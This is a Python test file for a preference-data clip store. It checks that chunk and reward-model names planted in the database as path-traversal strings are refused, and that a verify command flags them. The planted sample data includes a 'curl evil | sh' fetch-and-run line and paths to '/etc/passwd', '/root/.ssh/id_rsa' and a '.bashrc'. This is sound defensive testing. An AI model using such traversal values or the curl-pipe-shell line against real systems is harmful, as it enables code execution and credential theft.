"""Names read from a store are data, never paths: a planted clip row whose chunk is named
``../../x`` (a rater account on a team's store can insert one) is refused where chunks are
read, written and copied, on both backends, and ``store verify`` finds it."""

from __future__ import annotations

import io
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from rlhf_sandbox.cli import app
from rlhf_sandbox.store.clips import Clip, ClipFileError, ClipStore
from rlhf_sandbox.store.db import PreferenceDB

runner = CliRunner()


def _clip(seed: int) -> Clip:
    rng = np.random.default_rng(seed)
    return Clip(
        run="main", env_id="e", config={}, seed=seed, slot=0, start_step=0,
        fps=20.0, policy_hz=5.0,
        obs=rng.normal(size=(4, 3)).astype(np.float32),
        actions=rng.integers(0, 3, size=4),
        rewards=rng.normal(size=4).astype(np.float32),
        states={"x": rng.normal(size=(17, 2))},
    )  # fmt: skip


def _npz(clip: Clip) -> bytes:
    buf = io.BytesIO()
    np.savez_compressed(buf, **clip.arrays())  # type: ignore[arg-type]
    return buf.getvalue()


def _plant(db: PreferenceDB, clip_id: str, chunk: str) -> None:
    """What a rater account with write access can do: point a clip row elsewhere."""
    db._write(lambda c, _: c.execute("UPDATE clips SET chunk = ? WHERE id = ?", (chunk, clip_id)))


def _error(args: list[str]) -> str:
    r = runner.invoke(app, args)
    assert r.exit_code == 2, r.output
    lines = r.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), r.output
    return lines[0]


def test_get_never_opens_a_file_outside_the_clip_folder(tmp_path: Path, store_url: str) -> None:
    clips = tmp_path / "clips"
    store = ClipStore.open(store_url, f"file://{clips}")
    cid = store.add([_clip(1)])[0]
    outside = tmp_path / "outside.npz"  # the clip's own arrays, outside the folder
    outside.write_bytes(_npz(store.get(cid)))
    _plant(store.db, cid, "../../outside.npz")
    with pytest.raises(ClipFileError, match=cid) as e:
        store.get(cid)
    assert store.db.where in str(e.value) and "../../outside.npz" in str(e.value)
    with pytest.raises(ClipFileError, match="not a chunk name"):
        store.read_chunk("../outside.npz")
    for bad in ("../x.npz", "/tmp/x.npz", "a/b.npz", "..", ""):
        with pytest.raises(ClipFileError, match="not a chunk name"):
            store.write_chunk(bad, b"data")
    assert not (tmp_path / "x.npz").exists()
    store.db.close()


def test_store_copy_writes_nothing_outside_its_folder(tmp_path: Path, store_url: str) -> None:
    """A team's store (either backend) with a planted row, copied to a laptop's SQLite file:
    the file the row names is not replaced, and the copy leaves nothing behind."""
    src = ClipStore.open(store_url, "db")  # chunks in the database, as on a team's server
    cid = src.add([_clip(2)])[0]
    src.add([_clip(3)])
    (tmp_path / "home").mkdir()
    victim = tmp_path / "home" / ".bashrc"
    victim.write_text("alias ls='ls --color'\n")
    _plant(src.db, cid, "../../home/.bashrc")
    src.db._write(  # the planted row's "chunk": bytes the attacker chose
        lambda c, _: c.execute(
            "INSERT INTO chunks (name, data, created) VALUES (?, ?, ?)",
            ("../../home/.bashrc", b"curl evil | sh\n", "2026-01-01"),
        )
    )
    src.db.close()
    backup = tmp_path / "backup"
    line = _error(["store", "copy", store_url, f"sqlite:///{backup}/prefs.sqlite",
                   "--src-clips", "db"])  # fmt: skip
    assert cid in line and "store verify" in line
    assert victim.read_text() == "alias ls='ls --color'\n"
    assert not (backup / "prefs.sqlite").exists()
    assert not backup.exists() or not list(backup.rglob("*.npz"))


def test_store_copy_reads_nothing_outside_its_folder(tmp_path: Path) -> None:
    """A crafted SQLite store names a file outside its folder: its bytes must not reach
    the destination (``--dst-clips db`` would put them in the database)."""
    src = ClipStore.open(f"sqlite:///{tmp_path}/crafted/prefs.sqlite")
    cid = src.add([_clip(4)])[0]
    secret = tmp_path / "secret.npz"
    secret.write_bytes(_npz(src.get(cid)))
    _plant(src.db, cid, "../../secret.npz")
    src.db.close()
    dst = f"sqlite:///{tmp_path}/dst/prefs.sqlite"
    assert cid in _error(
        ["store", "copy", f"sqlite:///{tmp_path}/crafted/prefs.sqlite", dst, "--dst-clips", "db"]
    )
    assert not (tmp_path / "dst" / "prefs.sqlite").exists()


def test_import_and_add_refuse_bad_names(tmp_path: Path, store_url: str) -> None:
    """The database layer refuses to write a bad chunk or reward-model name at all."""
    with PreferenceDB.open(store_url) as db:
        row = ClipStore(None, db)
        good = row.add([_clip(5)])[0]
        clip = db.get_clip(good)
        bad = clip.__class__(**{**clip.__dict__, "id": "c2", "chunk": "../c2.npz"})
        with pytest.raises(ValueError, match="not a chunk name"):
            db.add_clips([bad])
        with pytest.raises(ValueError, match="not a chunk name"):
            db.add_clips([clip.__class__(**{**clip.__dict__, "id": "c3"})], ("/etc/x", b"d"))
        with pytest.raises(ValueError, match="reward model"):
            db.add_reward_model("main", "../../policy.pt")
        assert db.add_reward_model("main", "reward_models/v1.pt") == 1
        rows = [("clips", {**clip.__dict__, "id": "c4", "chunk": "../x.npz"})]
        with pytest.raises(ValueError, match="not a chunk name"):
            db.import_rows(rows)
        assert db.clip_ids() == [good]


def test_store_verify_finds_planted_rows_and_unreadable_chunks(
    tmp_path: Path, store_url: str
) -> None:
    folder = tmp_path / "clips"
    store = ClipStore.open(store_url, f"file://{folder}")
    a, b, c = (store.add([_clip(s)])[0] for s in (6, 7, 8))
    store.db.add_reward_model("main", "reward_models/v1.pt")
    store.db.close()
    args = ["store", "verify", store_url, "--clips", f"file://{folder}"]
    ok = runner.invoke(app, args)
    assert ok.exit_code == 0, ok.output
    assert "3 clips" in ok.output and "no problem" in ok.output

    with PreferenceDB.open(store_url) as db:
        _plant(db, a, "../../etc/passwd")
        db._write(
            lambda c, _: c.execute(
                "UPDATE reward_models SET path = ? WHERE version = 1", ("/root/.ssh/id_rsa",)
            )
        )
        chunk_b = db.get_clip(b).chunk
    (folder / "chunks" / chunk_b).write_bytes(b"not a zip")
    got = runner.invoke(app, args)
    assert got.exit_code == 1, got.output
    assert a in got.output and "../../etc/passwd" in got.output
    assert b in got.output and "unreadable" in got.output
    assert "/root/.ssh/id_rsa" in got.output
    assert c not in got.output
    assert "3 problems" in got.output
